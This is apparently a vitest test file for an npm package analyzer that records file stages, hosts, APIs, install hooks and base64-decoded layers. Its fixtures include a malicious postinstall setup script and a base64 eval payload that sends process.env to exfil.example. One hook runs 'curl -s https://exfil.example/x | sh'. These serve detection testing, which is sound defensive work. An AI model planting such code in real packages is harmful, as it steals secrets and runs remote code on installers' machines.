import { createHash } from 'node:crypto';
import { COMPACT_FACTS_MAX, type CompactFacts, compactFactsSchema } from '@weir/model';
import { describe, expect, it } from 'vitest';
import { analyzeArtifact } from './analyze.ts';
import type { ArtifactAnalysis, KeepBudget } from './api.ts';
import { createMemoryView } from './memory-view.ts';
import { tlshOf } from './tlsh.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

const MANIFEST = {
  name: 'sample',
  version: '1.1.0',
  main: 'index.js',
  scripts: { postinstall: 'node setup.js https://hook.example/a', test: 'mocha' },
  dependencies: { 'left-pad': '^1.0.0' },
  optionalDependencies: { fsevents: '*' },
  devDependencies: { mocha: '1' },
};
const SETUP = `const { exec } = require('child_process');
require('https').get('https://exfil.example/collect?id=7');
exec('whoami'); const agent = 'Dropper/2.1 (build 77)'; const home = '198.51.100.7';`;
const INDEX = `exports.base = 'https://api.service.example/v1'; exports.text = 'Unexpected token in JSON';\n`;
const PACKAGE: Files = {
  'package.json': JSON.stringify(MANIFEST),
  'setup.js': SETUP,
  'index.js': INDEX,
  'README.md': '# see https://docs.example\n',
};

function sha256(content: string | Uint8Array): string {
  return createHash('sha256').update(content).digest('hex');
}

async function analyse(
  files: Files,
  options: { readonly previous?: CompactFacts; readonly keep?: KeepBudget } = {},
): Promise<ArtifactAnalysis & { readonly facts: CompactFacts }> {
  const { previous, keep } = options;
  const release = {
    registry: 'npmjs',
    ecosystem: 'npm',
    name: 'sample',
    displayName: 'sample',
    version: '1.1.0',
    purl: 'pkg:npm/sample@1.1.0',
  } as const;
  const context = {
    release,
    facts: null,
    dependencies: [],
    previous: previous ? { version: '1.0.0', facts: previous } : null,
  };
  const result = await analyzeArtifact(
    createMemoryView(files),
    { ecosystem: 'npm', filename: 'sample.tgz', context, ...(keep && { keep }) },
    {
      layout: 'directory',
      artifact: { sha256: sha256(''), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => 0,
    },
  );
  return { ...result, facts: compactFactsSchema.parse(result.facts) };
}

describe('compact facts', () => {
  it('tell files with stage, addresses and APIs of reached code, hooks and what an install brings along', async () => {
    const { facts } = await analyse(PACKAGE);

    expect(facts.files.map(({ path, stage }) => `${stage} ${path}`)).toEqual([
      'install setup.js',
      'import index.js',
      'dead README.md',
      'dead package.json',
    ]);
    expect(facts.files[0]).toMatchObject({ sha256: sha256(SETUP), tlsh: tlshOf(Buffer.from(SETUP)) });
    expect(facts.hosts).toEqual(['198.51.100.7', 'api.service.example', 'exfil.example', 'hook.example']);
    expect(facts.urls).toContain('https://exfil.example/collect?id=7');
    expect(facts.apis).toEqual(['child_process.exec', 'https.get']);
    expect(facts.strings).toContain(sha256('Dropper/2.1 (build 77)').slice(0, 16));
    expect(facts.hooks).toEqual([
      { hook: 'postinstall', stage: 'install', command: MANIFEST.scripts.postinstall },
    ]);
    expect(facts.dependencies).toEqual([
      { name: 'fsevents', spec: '*', kind: 'optional' },
      { name: 'left-pad', spec: '^1.0.0', kind: 'normal' },
    ]);
    expect(facts.truncated).toEqual({});
  });

  it('are within their caps for a package that is over all of them, and say so', async () => {
    const texts = Array.from({ length: 3000 }, (_, at) => `'Text number ${at} of Many'`);
    const urls = Array.from({ length: 300 }, (_, at) => `'https://h${at}.example/${'x'.repeat(700)}'`);
    const files = Object.fromEntries(
      Array.from({ length: COMPACT_FACTS_MAX.files + 10 }, (_, at) => [`d/${at}.txt`, `${at}`]),
    );

    const { facts } = await analyse({ ...PACKAGE, ...files, 'index.js': `f(${[...texts, ...urls].join()})` });

    expect(facts.files[0]?.path).toBe('setup.js');
    expect(facts.strings).toHaveLength(COMPACT_FACTS_MAX.strings);
    expect(facts.truncated).toMatchObject({ files: 14, hosts: 103, urls: 202 });
    expect(facts.truncated.strings).toBeGreaterThan(2_800);
  });

  it('choose the same texts of one kit wherever they stand', async () => {
    const kit = Array.from({ length: 40 }, (_, at) => `'Kit message No ${at}!'`);
    const chatter = (seed: string): string[] =>
      Array.from({ length: 60 }, (_, at) => `'Some ${seed} Text ${at}'`);
    const [one, other] = await Promise.all([
      analyse({ ...PACKAGE, 'index.js': `f(${[...kit, ...chatter('a')].join()})` }),
      analyse({ ...PACKAGE, 'index.js': `f(${[...chatter('b'), ...kit.toReversed()].join()})` }),
    ]);

    const common = one.facts.strings.filter((hash) => other.facts.strings.includes(hash));
    expect(common.length).toBeGreaterThan(15);
  });

  it('of a package that cannot be followed still list its files', async () => {
    const { facts } = await analyse({ 'package.json': '{', 'a.js': 'x' });

    expect(facts.files.map(({ path, stage }) => [path, stage])).toEqual([
      ['a.js', 'dead'],
      ['package.json', 'dead'],
    ]);
  });
});

describe('kept files', () => {
  const keep = { filesMax: 10, bytesMax: 10_000 };

  it('are all of a first release, those that run first, and none unless asked for', async () => {
    const [asked, unasked] = await Promise.all([analyse(PACKAGE, { keep }), analyse(PACKAGE)]);

    expect(asked.kept?.map(({ path }) => path)).toEqual([
      'setup.js',
      'index.js',
      'README.md',
      'package.json',
    ]);
    expect(Buffer.from(asked.kept?.[0]?.bytes ?? []).toString()).toBe(SETUP);
    expect(unasked.kept).toBeUndefined();
  });

  it('are what changed after that', async () => {
    const { facts: previous } = await analyse(PACKAGE);

    const changed = { ...PACKAGE, 'index.js': `${INDEX}// new\n`, 'moved/setup.js': SETUP };
    const { kept, facts } = await analyse(changed, { previous, keep });

    expect(kept?.map(({ path }) => path)).toEqual(['index.js']);
    expect(facts.files[0]?.tlsh).toBe(previous.files[0]?.tlsh);
  });

  it('stay within both budgets', async () => {
    const [few, small] = await Promise.all([
      analyse(PACKAGE, { keep: { filesMax: 1, bytesMax: 10_000 } }),
      analyse(PACKAGE, { keep: { filesMax: 10, bytesMax: INDEX.length } }),
    ]);

    expect(few.kept?.map(({ path }) => path)).toEqual(['setup.js']);
    expect(small.kept?.map(({ path }) => path)).toEqual(['index.js']);
  });
});

describe('layers of findings', () => {
  const hidden = `const https = require('https'); https.get('https://exfil.example/?e=' + JSON.stringify(process.env));`;
  const encoded = Buffer.from(hidden).toString('base64');

  it('come along with their text and the line that they are decoded from', async () => {
    const { findings, layers } = await analyse({
      ...PACKAGE,
      'setup.js': `\n\neval(Buffer.from('${encoded}', 'base64').toString());\n`,
    });

    const inLayer = findings.filter(({ location }) => location?.layer === 'base64');
    expect(inLayer.length).toBeGreaterThan(0);
    expect(layers).toEqual([
      {
        sha256: sha256(hidden),
        file: 'setup.js',
        layer: 'base64',
        line: 3,
        chars: hidden.length,
        text: hidden,
      },
    ]);
    expect(new Set(inLayer.map(({ location }) => location?.layerSha256))).toEqual(new Set([sha256(hidden)]));
  });

  it('are cut, and there are two where findings point at two lines', async () => {
    const long = `${hidden}\n//${'x'.repeat(50_000)}`;
    const evals = [hidden, long].map(
      (code) => `eval(Buffer.from('${Buffer.from(code).toString('base64')}', 'base64').toString());`,
    );
    const { layers = [] } = await analyse({ ...PACKAGE, 'setup.js': evals.join('\n') });

    expect(layers.map(({ line, chars }) => [line, chars])).toEqual([
      [1, hidden.length],
      [2, long.length],
    ]);
    expect(Math.max(...layers.map(({ text }) => text.length))).toBe(16_384);
  });

  it('are commands inside the commands of hooks, too', async () => {
    const command = 'curl -s https://exfil.example/x | sh';
    const postinstall = `sh -c "${command}"`;
    const { layers } = await analyse({
      ...PACKAGE,
      'package.json': JSON.stringify({ ...MANIFEST, scripts: { postinstall } }),
    });

    expect(layers?.map(({ file, text }) => [file, text])).toContainEqual([
      'package.json',
      'curl -s https://exfil.example/x',
    ]);
  });
});
